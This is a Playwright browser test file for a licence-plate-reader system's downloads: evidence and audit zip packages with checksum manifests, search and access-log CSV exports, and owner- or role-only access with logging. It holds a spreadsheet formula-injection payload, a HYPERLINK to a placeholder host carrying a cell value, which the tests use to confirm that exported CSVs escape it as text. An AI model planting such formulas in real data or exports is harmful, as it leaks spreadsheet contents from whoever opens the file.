"""Downloads in Debian's Chromium at a phone's and a laptop's width (issue 16, point 2;
462.5, 462.6, 462.10, 462.12).

Each download is started from its page as a user does (``expect_download``) and the
file is opened: a package is a zip whose every file matches its SHA-256 manifest, a
CSV has its header and exactly the rows asked for, and a typed value that begins like
a formula opens as text. Someone else (another officer, another role) gets no file:
the page offers them none, and a form posted by hand is refused with its reason. Each
download, and each refusal, is in the access log.
"""

from __future__ import annotations

import csv
import hashlib
import io
import uuid
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from alert_sightings import camera, sight
from browser_helpers import Site, open_page, post_form
from playwright.sync_api import Browser, Download, Page, expect

from controller.store import audit as audit_repo
from controller.store import corrections as correction_repo
from controller.store import hits as hit_repo
from controller.store import sites as site_repo

pytestmark = pytest.mark.browser

SEEN = datetime(2026, 11, 20, 14, 5, tzinfo=UTC)
# What someone might type in a note or a username to run in a reviewer's spreadsheet.
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
AUDIT_PURPOSE = "Audit of system use (462.6)"


def _read(site: Site) -> str:
    site_id = site_repo.create_site(site.engine, code="main-5th", name="Main St & 5th Ave",
                                    latitude=34.05, longitude=-118.25)
    camera_id = site_repo.create_camera(site.engine, site_id, {"name": "NB lane 1",
                                                               "host": "127.0.0.1"})
    read_uuid = str(uuid.uuid4())
    hit_repo.write_reads(site.engine, [{
        "images": [],
        "read": {"uuid": read_uuid, "plate": "7ABC123", "raw_text": "7ABC123",
                 "confidence": 0.96, "char_confidences": [0.96] * 7, "camera_id": camera_id,
                 "site_id": site_id, "seen_at": SEEN, "direction": "NB", "created_at": SEEN},
        "hits": [{"uuid": str(uuid.uuid4()), "entry": {
            "list": "CA-SVS", "plate": "7ABC123", "match": "exact",
            "category": "stolen_vehicle", "reason": "Stolen 2026-11-18"}}],
    }], sinks=[], now=SEEN)
    return read_uuid


def _saved(download: Download, folder: Path) -> Path:
    path = folder / download.suggested_filename
    download.save_as(path)
    return path


def _zip_files(path: Path) -> dict[str, bytes]:
    """The package's files by their name inside its folder, each checked against the
    manifest (every file listed, every digest right); the manifest itself left out."""
    with zipfile.ZipFile(path) as archive:
        files = {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()
                 if not n.endswith("/")}
    manifest = files.pop("MANIFEST.sha256").decode().splitlines()
    listed = dict(reversed(line.split("  ", 1)) for line in manifest)
    assert set(listed) == set(files)
    for name, digest in listed.items():
        assert hashlib.sha256(files[name]).hexdigest() == digest, name
    return files


def _csv(path: Path) -> tuple[list[str], list[list[str]]]:
    header, *rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
    return header, rows


def _logged(site: Site, action: str) -> list[tuple[str, str]]:
    return [(str(e["actor"]), str(e["outcome"]))
            for e in reversed(audit_repo.search(site.engine, action=action))]


def test_evidence_package_downloads_for_its_owner_only(site: Site, sized_page: Page,
                                                       browser: Browser, width: int,
                                                       tmp_path: Path) -> None:
    page = sized_page
    read_uuid = _read(site)
    site.user("ann.lee", "officer")
    site.user("bob.ray", "officer")
    site.login(page, "ann.lee")
    # The export writes plates and images: it runs under the officer's purpose (462.5).
    site.state_purpose(page, "/holds")
    page.fill("#hold-form input[name=case_number]", "26-004512")
    page.fill("#hold-form input[name=reason]", "suspect vehicle, robbery")
    page.fill("#hold-form textarea[name=read_uuids]", read_uuid)
    page.click("#hold-form button[type=submit]")
    expect(page.locator(".flash")).to_contain_text("placed")
    page.click("#holds >> text=Export evidence")
    expect(page.locator("#evidence-packages")).to_contain_text("evidence-hold-")
    with page.expect_download() as waiting:
        page.click("#evidence-packages button[type=submit]")
    download = waiting.value
    assert download.suggested_filename.startswith("evidence-hold-")
    assert download.suggested_filename.endswith(".zip")
    files = _zip_files(_saved(download, tmp_path))
    assert read_uuid in files["reads.json"].decode()
    assert "26-004512" in files["hold.json"].decode()
    site.shot(page, f"16-2-evidence-download-{width}")
    package_id = page.locator("#evidence-packages input[name=package_id]").input_value()

    # Another officer is offered no package, and a download posted by hand is refused.
    with open_page(browser, width) as other:
        site.login(other, "bob.ray")
        site.state_purpose(other, "/holds")
        expect(other.locator("#evidence-packages")).to_contain_text("No package of yours")
        refused = post_form(other, "/packages/evidence/download", {"package_id": package_id})
        assert refused.status == 403
        expect(other.locator("main")).to_contain_text("only its owner downloads it")
    assert _logged(site, "export.download_evidence") == [("ann.lee", "allowed"),
                                                         ("bob.ray", "denied")]


def test_audit_package_downloads_for_the_administrator(site: Site, sized_page: Page,
                                                      browser: Browser, width: int,
                                                      tmp_path: Path) -> None:
    page = sized_page
    site.user("chief.ray", "administrator")
    site.user("ann.lee", "officer")
    site.login(page, "chief.ray")
    page.goto(f"{site.url}/compliance/audits")
    page.locator("form:has(button:text('Build now')) input[name=quarter]").fill("2026Q3")
    page.get_by_role("button", name="Build now").click()
    expect(page.locator(".flash")).to_contain_text("Audit package audit-2026Q3 built")
    with page.expect_download() as waiting:
        page.click("#download-audit-2026Q3")
    download = waiting.value
    assert download.suggested_filename == "audit-2026Q3.zip"
    files = _zip_files(_saved(download, tmp_path))
    assert "access-log.csv" in files
    site.shot(page, f"16-2-audit-package-{width}")

    # An officer has no audits page and gets no package by posting its name.
    with open_page(browser, width) as other:
        site.login(other, "ann.lee")
        response = other.goto(f"{site.url}/compliance/audits")
        assert response is not None and response.status == 403
        refused = post_form(other, "/packages/audit/download", {"name": "audit-2026Q3"})
        assert refused.status == 403
        expect(other.locator("main")).to_contain_text("Not allowed")
    assert _logged(site, "export.download_audit") == [("chief.ray", "allowed")]
    assert ("ann.lee", "denied") in _logged(site, "access.denied")


def test_search_results_download_as_csv_for_the_searcher(site: Site, sized_page: Page,
                                                         browser: Browser, width: int,
                                                         tmp_path: Path) -> None:
    page = sized_page
    cam = camera(site.engine)
    data_dir = site.settings.data_dir
    listed = sight(site.engine, data_dir, cam, "7ABC123", SEEN)[0]
    sight(site.engine, data_dir, cam, "8XYZ999", SEEN)  # not searched: not in the file
    read_uuid = hit_repo.get_hit(site.engine, listed)["read_uuid"]
    correction_repo.add_correction(site.engine, read_uuid, kind="annotation", plate=None,
                                   note=FORMULA, actor="ann.lee", now=SEEN)
    site.user("ann.lee", "officer")
    site.user("bob.ray", "officer")
    site.login(page, "ann.lee")
    site.state_purpose(page, "/search")
    page.fill("input[name=plate]", "7abc123")
    page.click("#search-form button[type=submit]")
    expect(page.locator("#results tbody tr")).to_have_count(1)
    with page.expect_download() as waiting:
        page.click("#results-csv button[type=submit]")
    download = waiting.value
    assert download.suggested_filename.startswith("search-")
    header, rows = _csv(_saved(download, tmp_path))
    assert header[:3] == ["read", "plate", "corrected_plate"]
    assert [(r[header.index("read")], r[header.index("plate")]) for r in rows] == [
        (read_uuid, "7ABC123")]
    [row] = rows
    assert row[header.index("case_number")] == "26-004512"
    assert row[header.index("notes")] == "'" + FORMULA  # opens as text, not a formula
    site.shot(page, f"16-2-search-csv-{width}")
    search_id = page.locator("#results-csv input[name=search_id]").input_value()

    # Another officer's copy of the form: not his search, refused.
    with open_page(browser, width) as other:
        site.login(other, "bob.ray")
        site.state_purpose(other, "/search")
        refused = post_form(other, "/packages/search.csv", {"search_id": search_id})
        assert refused.status == 403
        expect(other.locator("main")).to_contain_text("not one of your searches")
    assert _logged(site, "export.search_csv") == [("ann.lee", "allowed"),
                                                  ("bob.ray", "denied")]


def test_access_log_downloads_as_csv_with_the_page_filter(site: Site, sized_page: Page,
                                                          browser: Browser, width: int,
                                                          tmp_path: Path) -> None:
    page = sized_page
    site.user("chief.ray", "administrator")
    site.user("dee.ortiz", "dispatcher")
    # Someone types a formula as a username at the sign-in page (and a real user errs).
    with open_page(browser, width) as stranger:
        for name in (FORMULA, "dee.ortiz"):
            stranger.goto(f"{site.url}/login")
            stranger.fill("input[name=username]", name)
            stranger.fill("input[name=password]", "not-the-password")
            stranger.check("input[name=banner_ack]")
            stranger.click("button[type=submit]")
            expect(stranger.locator("#login-error")).to_contain_text("wrong username or password")

    site.login(page, "chief.ray")
    page.goto(f"{site.url}/audit")
    # The access log names plates: the administrator states the audit as the purpose.
    expect(page.locator("h1")).to_contain_text("Purpose of this work")
    page.select_option("select[name=purpose]", AUDIT_PURPOSE)
    page.fill("input[name=case_number]", "2026Q4")
    page.check("input[name=attest]")
    page.click("#purpose-form button[type=submit]")
    page.select_option("#audit-filters select[name=action]", label="Failed sign-in")
    page.click("#audit-filters button[type=submit]")
    shown = page.locator("#audit-rows tbody tr")
    expect(shown).to_have_count(2)
    ids = [text.strip() for text in shown.locator("td:first-child").all_inner_texts()]
    with page.expect_download() as waiting:
        page.click("#audit-csv")
    download = waiting.value
    assert download.suggested_filename == "access-log.csv"
    header, rows = _csv(_saved(download, tmp_path))
    assert header[:4] == ["id", "at", "actor", "action"]
    assert [r[header.index("id")] for r in rows] == ids  # the rows the page showed
    assert {r[header.index("action")] for r in rows} == {"login.failed"}
    actors = [r[header.index("actor")] for r in rows]
    assert "dee.ortiz" in actors
    assert [a for a in actors if a != "dee.ortiz"] == ["'" + FORMULA]  # text, not a formula
    site.shot(page, f"16-2-access-log-csv-{width}")

    # A dispatcher does not read the access log: no page, no file.
    with open_page(browser, width) as other:
        site.login(other, "dee.ortiz")
        for path in ("/audit", "/packages/access-log.csv?action=login.failed"):
            response = other.goto(f"{site.url}{path}")
            assert response is not None and response.status == 403, path
            expect(other.locator("main")).to_contain_text("Not allowed")
    assert _logged(site, "export.audit_log_csv") == [("chief.ray", "allowed")]
